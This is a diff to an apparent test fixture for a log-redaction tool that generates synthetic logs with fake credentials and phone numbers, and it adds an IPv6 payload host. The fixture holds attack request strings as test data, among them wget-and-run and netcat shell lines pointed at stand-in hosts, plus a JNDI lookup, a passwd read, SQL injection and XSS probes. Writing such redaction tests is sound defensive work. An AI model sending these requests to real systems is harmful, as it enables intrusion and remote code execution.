@@ -45,6 +45,7 @@ PLAYER = "198.51.100.99"
 VERSION = "sqlmap/1.8.2"
 # What a payload fetches its next part from.
 PAYLOAD = "198.51.100.23"
+PAYLOAD_V6 = "2001:db8:77::abc1"
 # Numbers are searched with what people put between digits taken out.
 BETWEEN = b" -.()/+\\\"'"
 
@@ -77,6 +78,7 @@ def logs():
     bot += [
         f"{local},100 [ERROR] bot (1): Twilio refused +34 600 98 71 23 ({PERSON}), password={PASSWORD} Authorization: Bearer {BEARER}",
         f"{local},100 [ERROR] bot (1): could not open redis://cache:{PASSWORD}@10.0.0.7:6379/0 for 0034{NUMBER}",
+        f"{local},100 [ERROR] bot (1): peer:{PAYLOAD_V6} and /{PAYLOAD_V6}:51234 hung up",
         "Traceback (most recent call last):",
         f'  File "bot.py", line 7, in send (to="whatsapp:+34{NUMBER}")',
         f"ValueError: {PERSON} has no link https://shop.example/pago/{LINK}",
@@ -88,10 +90,11 @@ def logs():
         f"/.env?token={BEARER}&to=%2B34-600-987-123",
         "/.env?to=600%20987%20123", "/.env?to=%2B34+600+98+71+23",
         f"/shell?cd+/tmp;wget+http://{PAYLOAD}/x;sh+x", f"/shell?nc%20{PAYLOAD}%20444",
+        f"/shell?wget+http://[{PAYLOAD_V6}]:8080/x;sh+x", "/shell?wget+http%3A%2F%2F%5B" + PAYLOAD_V6.replace(":", "%3A") + "%5D/x;sh+x",
         "/shell.php?cmd=cat%20/etc/passwd", "/?x=${jndi:ldap://a.example/x}", "/?q=<script>alert(1)</script>", "/.git/config",
         "/cgi-bin/.%2e/.%2e/bin/sh", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?id=1'%20OR%201=1--",
     ]  # fmt: skip
-    agent = f"{VERSION} (Bearer {BEARER}; {PERSON}; +34 600 987 123) tel/600.987.123 tel/600987.123 x/{PAYLOAD}"
+    agent = f"{VERSION} (Bearer {BEARER}; {PERSON}; +34 600 987 123) tel/600.987.123 tel/600987.123 x/{PAYLOAD} x/{PAYLOAD_V6}"
     web = [f'{CLIENT} - {PASSWORD} [{common}] "GET {target} HTTP/1.1" 404 1 "http://ana:{PASSWORD}@a.example/" "{agent}"' for target in targets]
     record = lambda target: {"ip": CLIENT, "method": "GET", "uri": target, "status": 404, "host": "shop.example", "ua": agent, "time": common, "req_time": "0.1"}
     errors = [
@@ -123,7 +126,8 @@ def forbidden(senders, clients):
     people = [("a message", WORDS), ("a password", PASSWORD), ("an e-mail address", PERSON), ("a token", BEARER), ("a link", LINK)]
     addresses = {"full": [], "prefix": [CLIENT, PLAYER], "hash": [CLIENT, PLAYER, NETWORK]}[clients]
     hidden = secrets + (people if senders != "full" else []) + [("an address", address) for address in addresses]
-    hidden += [("an address in a payload", PAYLOAD)] if senders != "full" and clients != "full" else []
+    payloads = [PAYLOAD, PAYLOAD_V6, PAYLOAD_V6.replace(":", "%3A")]
+    hidden += [("an address in a payload", payload) for payload in payloads] if senders != "full" and clients != "full" else []
     return [(what, text.encode()) for what, text in hidden], senders != "full"
 
 
